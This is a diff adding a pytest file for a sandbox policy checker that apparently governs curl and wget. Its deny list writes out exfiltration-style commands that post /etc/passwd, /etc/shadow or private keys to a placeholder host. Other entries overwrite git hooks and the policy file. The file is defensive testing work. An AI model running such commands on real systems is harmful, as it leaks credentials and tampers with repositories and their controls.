@@ -1,0 +1,246 @@
+"""curl and wget models (dal/effects/fetchers.py): every file their options or URLs write or read is a checked
+path; what the check cannot know is denied. Checked by the checker, then executed with the real programs (curl
+with file: URLs, wget against a local HTTP server) inside the wall and without it, next to canaries."""
+
+from __future__ import annotations
+
+import http.server
+import shutil
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from effects_workspace import CANARY
+
+from dal.effects import EffectContext, Policy, run_effect, sandbox_status
+from dal.effects.check import check_command
+
+HAVE_BWRAP = sandbox_status()[0]
+HAVE_CURL = shutil.which("curl") is not None
+HAVE_WGET = shutil.which("wget") is not None
+
+ALLOWED = [
+    "curl -sS http://example.com/",
+    "curl -sSL -o out/page.html http://example.com/a",
+    "curl -sSLo out/page.html http://example.com/a",
+    "curl --output-dir out -O http://example.com/a.json",
+    "curl --output-dir out/new --create-dirs -O http://example.com/a.json",
+    "curl -s -d @body.json http://example.com/api",
+    "curl -s -F 'f=@notes.txt;type=text/plain' http://example.com/up",
+    "curl -s -b name=value -H 'Accept: application/json' http://example.com/",
+    "curl -s -w '%{http_code}' -o /dev/null http://example.com/",
+    "curl --no-progress-meter --no-silent http://example.com/",
+    "curl -s file://{WS}/notes.txt",
+    "wget -q http://example.com/a.txt",
+    "wget -qO out/f http://example.com/a",
+    "wget -qO- http://example.com/a",
+    "wget -P out http://example.com/a",
+    "wget --directory-prefix=out -nv -nc http://example.com/a",
+    "wget -e robots=off -q http://example.com/a",
+    "wget -q -x -P out http://example.com/d/a.txt",
+    "wget --spider http://example.com/a",
+]
+
+DENIED = [
+    # writes: protected paths and outside the write roots, by every output option and default name
+    ("curl -o .git/index file://{WS}/x", "protected"),
+    ("curl -s --create-dirs -o .git/objects/ab/cd file://{WS}/x", "protected"),
+    ("curl -sSLodal.toml http://x/", "protected"),
+    ("curl -sO http://x/dal.toml", "protected"),
+    ("curl -O http://x/%2egit", "protected"),
+    ("curl --remote-name-all http://x/a http://x/sub/dal.toml", "protected"),
+    ("curl --output-dir .git -O http://x/a", "protected"),
+    ("curl --output-dir sub -o /dal.toml http://x/", "protected"),
+    ("curl -D ../h http://x/", "outside"),
+    ("curl --dump-header .git/hooks/pre-commit http://x/", "protected"),
+    ("curl -c .dal/cookies http://x/", "protected"),
+    ("curl --cookie-j ../jar http://x/", "outside"),
+    ("curl --trace ../t http://x/", "outside"),
+    ("curl --trace-ascii sub/dal.toml http://x/", "protected"),
+    ("curl --stderr ../e http://x/", "outside"),
+    ("curl --etag-save dal.toml http://x/", "protected"),
+    ("curl --hsts ../h http://x/", "outside"),
+    ("curl --alt-svc .git/config http://x/", "protected"),
+    ("curl --libcurl .git/hooks/x http://x/", "protected"),
+    ("curl -T notes.txt file://{WS}/.git/config", "protected"),
+    ("curl -T notes.txt file://{WS}/.git/", "protected"),
+    # reads outside the roots
+    ("curl file:///etc/passwd", "outside"),
+    ("curl FILE://localhost/etc/passwd", "outside"),
+    ("curl -T /etc/passwd http://x/", "outside"),
+    ("curl -d @/etc/passwd http://x/", "outside"),
+    ("curl --data-binary @../outside/canary.txt http://x/", "outside"),
+    ("curl --data-urlencode name@/etc/passwd http://x/", "outside"),
+    ("curl -F f=@/etc/shadow http://x/", "outside"),
+    ("curl -F 'f=<../outside/canary.txt' http://x/", "outside"),
+    ("curl -F 'f=x;headers=@/etc/passwd' http://x/", "outside"),
+    ("curl -H @/etc/passwd http://x/", "outside"),
+    ("curl -w @/etc/passwd http://x/", "outside"),
+    ("curl -b /etc/cookies http://x/", "outside"),
+    ("curl --cacert /etc/ssl/private/k.pem http://x/", "outside"),
+    ("curl -E /etc/ssl/private/k.pem:pw http://x/", "outside"),
+    # what the check cannot see
+    ("curl -K cfg http://x/", "file the check cannot see"),
+    ("curl -sK cfg http://x/", "file the check cannot see"),
+    ("curl --config cfg http://x/", "file the check cannot see"),
+    ("curl -J -O http://x/", "server"),
+    ("curl -o 'f#1' 'http://x/{a,b}'", "glob"),
+    ("curl -O 'http://x/{dal.toml,a}'", "glob"),
+    ("curl -T '{a,b}' http://x/", "glob"),
+    ("curl --engine /tmp/x.so http://x/", "engine"),
+    ("curl -w '%output{dal.toml}' http://x/", "%output"),
+    ("curl --no-output x http://x/", "--no-"),
+    ("curl --outp x http://x/", "ambiguous"),
+    ("curl --frobnicate http://x/", "unknown"),
+    ("curl -o", "needs a value"),
+    ("wget -O dal.toml http://x/", "protected"),
+    ("wget --output-d=dal.toml http://x/", "protected"),
+    ("wget http://x/dal.toml", "protected"),
+    ("wget http://x/%64al.toml", "protected"),
+    ("wget -P .git http://x/a", "protected"),
+    ("wget -P ../outside http://x/a", "outside"),
+    ("wget -o .git/log http://x/", "protected"),
+    ("wget -a ../log http://x/", "outside"),
+    ("wget --save-cookies=dal.toml http://x/", "protected"),
+    ("wget --rejected-log=../r http://x/", "outside"),
+    ("wget -x http://h/.git/config", "protected"),
+    ("wget -x -nH --cut-dirs=1 http://h/a/.git/config", "protected"),
+    ("wget --post-file=/etc/passwd http://x/", "outside"),
+    ("wget --body-file ../outside/canary.txt http://x/", "outside"),
+    ("wget -i /etc/passwd -O out/x", "outside"),
+    ("wget -i list http://x/", "in the file"),
+    ("wget --config=x http://x/", "file the check cannot see"),
+    ("wget -e output_document=dal.toml http://x/", "wgetrc command"),
+    ("wget -e OUTPUT-DOCUMENT=dal.toml http://x/", "wgetrc command"),
+    ("wget -e dir_prefix=.git http://x/", "wgetrc command"),
+    ("wget -r http://x/", "server"),
+    ("wget -qm http://x/", "server"),
+    ("wget --content-disposition http://x/", "server"),
+    ("wget --trust-server-names http://x/", "server"),
+    ("wget -E http://x/a", "extension"),
+    ("wget --use-askpass=sh http://x/", "runs a program"),
+    ("wget -b http://x/", "wget-log"),
+    ("wget --warc-file=x http://x/", "WARC"),
+    ("wget -nz http://x/", "unknown"),
+    ("wget --frob http://x/", "unknown"),
+]
+
+
+@pytest.fixture()
+def ws(tmp_path: Path) -> Path:
+    ws = tmp_path / "ws"
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "config").write_text("[core]\n")
+    (ws / "out").mkdir()
+    (ws / "sub").mkdir()
+    (ws / "dal.toml").write_text("[run]\ndefaults = true\n")
+    (ws / "notes.txt").write_text("notes\n")
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "canary.txt").write_text(CANARY)
+    return ws
+
+
+def _policy(ws: Path, net: bool = False) -> Policy:
+    return Policy.load(ws, allow_run=["curl", "wget"], allow_net=net)
+
+
+@pytest.mark.parametrize("command", ALLOWED)
+def test_everyday_fetches_are_allowed(command: str, ws: Path) -> None:
+    d = check_command(command.replace("{WS}", str(ws)), _policy(ws))
+    assert d.allowed, d.reason
+    assert not d.idempotent
+
+
+@pytest.mark.parametrize(("command", "why"), DENIED)
+def test_every_file_an_option_names_is_checked(command: str, why: str, ws: Path) -> None:
+    d = check_command(command.replace("{WS}", str(ws)), _policy(ws))
+    assert not d.allowed, f"{command} was allowed"
+    assert why in d.reason, d.reason
+
+
+def test_a_fetch_on_the_network_is_external(ws: Path) -> None:
+    assert check_command("curl -s http://x/", _policy(ws, net=True)).effect_class == "external"
+    assert check_command("curl -s http://x/", _policy(ws)).effect_class == "local"
+
+
+def test_wget_checks_the_numbered_copy_it_writes_when_the_name_exists(ws: Path) -> None:
+    (ws / "a").write_text("old\n")
+    (ws / "a.1").symlink_to("../outside/canary.txt")
+    d = check_command("wget http://x/a", _policy(ws))
+    assert not d.allowed and "outside" in d.reason, d.reason
+    assert check_command("wget -nc http://x/a", _policy(ws)).allowed  # -nc: no copy is made
+
+
+# --- executed --------------------------------------------------------------------------------------------
+
+
+def _walls() -> list:
+    return [pytest.param(True, id="wall", marks=pytest.mark.skipif(not HAVE_BWRAP, reason="no bubblewrap")),
+            pytest.param(False, id="nowall")]
+
+
+@pytest.mark.skipif(not HAVE_CURL, reason="curl not installed")
+@pytest.mark.parametrize("wall", _walls())
+def test_curl_cannot_write_git_state_or_policy_and_still_saves_into_a_write_root(ws: Path, wall: bool) -> None:
+    """Attack4 finding 05: `curl -o .git/index`, `--create-dirs -o .git/objects/..` with file: URLs, no
+    network. Denied, nothing written; the everyday `-o out/file` and `-O` into --output-dir run."""
+    (ws / "payload").write_bytes(b"forged\n")
+    before = {p: p.read_bytes() for p in (ws / ".git" / "config", ws / "dal.toml")}
+    ctx = EffectContext(policy=_policy(ws), use_sandbox=wall)
+    for cmd in (f"curl -s file://{ws}/payload -o .git/index",
+                f"curl -s --create-dirs file://{ws}/payload -o .git/objects/ab/cdef",
+                f"curl -s --output-dir sub -o dal.toml file://{ws}/payload",
+                f"curl -sO file://{ws}/sub/../dal.toml",
+                f"curl -s file://{ws}/../outside/canary.txt"):
+        r = run_effect(cmd, ctx)
+        assert r.status == "denied", (cmd, r)
+    assert not (ws / ".git" / "index").exists() and not (ws / ".git" / "objects").exists()
+    assert not (ws / "sub" / "dal.toml").exists()
+    assert {p: p.read_bytes() for p in before} == before
+    r = run_effect(f"curl -sS file://{ws}/payload -o out/f && curl -sS --output-dir out/new --create-dirs "
+                   f"-O file://{ws}/payload", ctx)
+    assert r.ok, r.stderr
+    assert (ws / "out" / "f").read_bytes() == b"forged\n" and (ws / "out" / "new" / "payload").exists()
+    assert (ws.parent / "outside" / "canary.txt").read_text() == CANARY
+
+
+class _Quiet(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture()
+def server(tmp_path: Path) -> Iterator[str]:
+    site = tmp_path / "site"
+    (site / "d").mkdir(parents=True)
+    (site / "dal.toml").write_text('[run]\nallow = ["sh"]\n')
+    (site / "d" / "a.txt").write_text("served\n")
+
+    def handler(*a: object, **kw: object) -> _Quiet:
+        return _Quiet(*a, directory=str(site), **kw)  # type: ignore[arg-type]
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    t = threading.Thread(target=httpd.serve_forever, daemon=True)
+    t.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}"
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+@pytest.mark.skipif(not HAVE_WGET, reason="wget not installed")
+@pytest.mark.parametrize("wall", _walls())
+def test_wget_cannot_write_a_policy_file_and_still_saves_into_a_write_root(ws: Path, server: str, wall: bool) -> None:
+    ctx = EffectContext(policy=_policy(ws, net=True), use_sandbox=wall)
+    for cmd in (f"wget -q {server}/dal.toml -P sub", f"wget -qO sub/dal.toml {server}/d/a.txt",
+                f"wget -q -e output_document=sub/dal.toml {server}/d/a.txt",
+                f"wget -q -x -nH --cut-dirs=1 -P sub/x/.. {server}/d/../dal.toml"):
+        r = run_effect(cmd, ctx)
+        assert r.status == "denied", (cmd, r)
+    assert not (ws / "sub" / "dal.toml").exists()
+    r = run_effect(f"wget -q -P out {server}/d/a.txt && wget -q -x -nH -P out/tree {server}/d/a.txt", ctx)
+    assert r.ok, r.stderr
+    assert (ws / "out" / "a.txt").read_text() == "served\n"
+    assert (ws / "out" / "tree" / "d" / "a.txt").read_text() == "served\n"
